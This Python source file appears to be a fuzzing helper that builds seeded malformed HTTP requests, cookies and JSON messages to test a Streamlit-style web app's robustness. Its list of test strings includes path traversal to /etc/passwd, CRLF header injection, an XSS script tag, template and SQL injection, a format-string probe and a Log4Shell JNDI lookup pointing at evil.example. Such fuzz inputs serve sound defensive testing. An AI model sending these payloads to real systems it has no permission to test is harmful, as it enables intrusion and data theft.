"""Seeded nonsense: requests, messages and cookies that no honest browser sends, near what is understood."""

import json
from collections.abc import Sequence
from typing import TypeVar
from urllib.parse import quote

import numpy as np

T = TypeVar("T")

TEXTS = (
    "",
    "0",
    "-1",
    "1e999",
    "NaN",
    "null",
    "٣",
    "%00",
    "\x00",
    "\r\nset-cookie: x=1",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "//evil.example/x",
    "C:/Windows",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://evil.example/x}",
    "' OR 1=1 --",
    "%s%s%n",
    "\ud800".encode("utf-8", "surrogatepass").decode("latin-1"),
    "가나다🙂",
    "\u202e",
    "A" * 300,
    "9" * 400,
)
NAMES = (
    "dataset",
    "layers",
    "learning_rate",
    "seed",
    "inputs",
    "slice",
    "speed",
    "lang",
    "v",
    "token",
    "watch",
)
NAMES += ("from", "gen", "fps", "families", "embed", "embed_options", "c", "id", "__proto__", "x" * 100)
PATHS = (
    "",
    "about",
    "playground",
    "api/live",
    "api/history",
    "api/history.csv",
    "api/static/v/main.js",
    "api/",
)
PATHS += ("api/wall", "api/seconds", "api/export/script", "api/export/notebook", "teacher", "watch")
PATHS += ("_stcore/health", "_stcore/stream", "_stcore/host-config", "_stcore/metrics", "_stcore/agent/mcp")
PATHS += ("_stcore/upload_file/a/b", "_stcore/bidi-components/x/y", "_stcore/script-health-check", "metrics")
PATHS += (
    "media/x.png",
    "component/x/index.html",
    "static/js",
    "static/../app.py",
    "app/static/x",
    "auth/login",
)
METHODS = (
    "GET",
    "GET",
    "GET",
    "GET",
    "HEAD",
    "POST",
    "PUT",
    "DELETE",
    "OPTIONS",
    "PATCH",
    "TRACE",
    "NONSENSE",
)
HEADERS = ("Origin", "Host", "X-Forwarded-For", "X-Forwarded-Host", "X-Forwarded-Proto", "X-Forwarded-Prefix")
HEADERS += (
    "Range",
    "If-None-Match",
    "Accept-Language",
    "Accept-Encoding",
    "Content-Type",
    "X-Xsrftoken",
    "Accept",
)
COOKIES = ("playground_browser", "_streamlit_xsrf", "_streamlit_session", "_streamlit_user", "other")
ORDERS = ("play", "pause", "step", "reset", "stop", "eval", "", "PLAY")
ORDERS += ("batch", "weight", "look", "show", "lock", "allow", "change")


class Nonsense:
    """Draws nonsense from a generator, so that a failure comes again."""

    def __init__(self, seed: int) -> None:
        self._draw = np.random.default_rng(seed)

    def one_of(self, choices: Sequence[T]) -> T:
        """Return one of `choices`."""
        return choices[int(self._draw.integers(len(choices)))]

    def chance(self, share: float) -> bool:
        """Return True in `share` of the calls."""
        return bool(self._draw.random() < share)

    def octets(self, most: int) -> bytes:
        """Return up to `most` random bytes."""
        return self._draw.bytes(int(self._draw.integers(most + 1)))

    def text(self) -> str:
        """Return a text: a known trap, or random characters."""
        return self.one_of(TEXTS) if self.chance(0.7) else self.octets(40).decode("latin-1")

    def escaped(self, text: str) -> bytes:
        """Return `text` as it stands in an address: escaped, or as bytes that hold no space or line end."""
        if self.chance(0.9):
            return quote(text.encode("utf-8", "surrogatepass"), safe="/").encode()
        return bytes(octet for octet in text.encode("utf-8", "surrogatepass") if octet > 32)

    def path(self) -> bytes:
        """Return a path: one of ours, perhaps bent, or none."""
        path = self.one_of(PATHS)
        if self.chance(0.5):
            path = self.one_of(
                (f"{path}/{self.text()}", f"{self.text()}/{path}", path + self.text(), path.upper())
            )
        return b"/" + self.escaped(path)

    def query(self) -> bytes:
        """Return a query without its question mark."""
        pairs = [(self.one_of(NAMES), self.text()) for _ in range(int(self._draw.integers(4)))]
        return b"&".join(self.escaped(name) + b"=" + self.escaped(value) for name, value in pairs)

    def line(self, text: str) -> bytes:
        """Return `text` as it can stand in a header, seldom with control characters in it."""
        most = b"\r\n\x00" if self.chance(0.02) else bytes([*range(32), 127])
        return text.encode("utf-8", "surrogatepass").translate(None, most)

    def cookie(self) -> bytes:
        """Return a `Cookie` header's value."""
        pairs = [f"{self.one_of(COOKIES)}={self.text()}" for _ in range(int(self._draw.integers(1, 4)))]
        return self.line(self.one_of(("; ", ";", ", ")).join(pairs))

    def headers(self, host: str) -> list[tuple[str, bytes]]:
        """Return headers; often the host is right, so that the request gets far."""
        found = [(self.one_of(HEADERS), self.line(self.text())) for _ in range(int(self._draw.integers(3)))]
        if self.chance(0.6):
            found.append(("Cookie", self.cookie()))
        return found if any(name == "Host" for name, _ in found) else [("Host", host.encode()), *found]

    def request(self, host: str) -> bytes:
        """Return a whole request, which asks to close the connection after the answer."""
        query = self.query()
        method, target = self.one_of(METHODS), self.path() + (b"?" + query if query else b"")
        body = self.octets(200) if method in {"POST", "PUT", "PATCH"} else b""
        headers = [*self.headers(host), ("Connection", b"close")]
        if body or method in {"POST", "PUT", "PATCH"}:
            headers.append(("Content-Length", str(len(body)).encode()))
        lines = [name.encode() + b": " + value for name, value in headers]
        return b"\r\n".join([method.encode() + b" " + target + b" HTTP/1.1", *lines, b"", b""]) + body

    def value(self, depth: int = 0) -> object:
        """Return a JSON value."""
        kinds = 7 if depth < 3 else 5
        kind = int(self._draw.integers(kinds))
        if kind == 5:
            return [self.value(depth + 1) for _ in range(int(self._draw.integers(3)))]
        if kind == 6:
            return {self.text(): self.value(depth + 1) for _ in range(int(self._draw.integers(3)))}
        return (self.text(), int(self._draw.integers(-(2**62), 2**62)), float("nan"), None, True)[kind]

    def order_value(self) -> object:
        """Return the value of an order: near what some order takes, or any JSON value."""
        number = self.one_of((0, 1, 7, -1, 2**31, 2**63, 0.5, float("nan"), 1e300, True, None, "1"))
        other = self.one_of((0, 0.5, -1e6, 1e7, None, True, [1]))
        wish = {
            self.one_of(("layer_health", "hidden_space", "predictions", "x", "X")): self.one_of(
                (True, False, 1, None)
            )
        }
        return self.one_of((number, [number, other], [number], wish, self.value()))

    def message(self) -> str | bytes:
        """Return a message to a run: an order, almost one, an acknowledgement, JSON, text or bytes."""
        kind = self._draw.random()
        if kind < 0.3:
            fields = {"c": self.one_of(ORDERS), "id": self.value() if self.chance(0.3) else 7}
            if self.chance(0.6):
                fields["v"] = self.order_value()
            return json.dumps(fields if self.chance(0.7) else {**fields, self.text(): self.value()})
        if kind < 0.5:
            return json.dumps(self.value())
        if kind < 0.6:
            return "a"
        if kind < 0.62:
            return "[" * int(self._draw.integers(1, 5000))
        if kind < 0.64:
            return self.one_of((" ", "x", "9", "가")) * int(self._draw.integers(1000, 9000))
        return self.octets(100) if kind < 0.7 else self.text() + self.text()
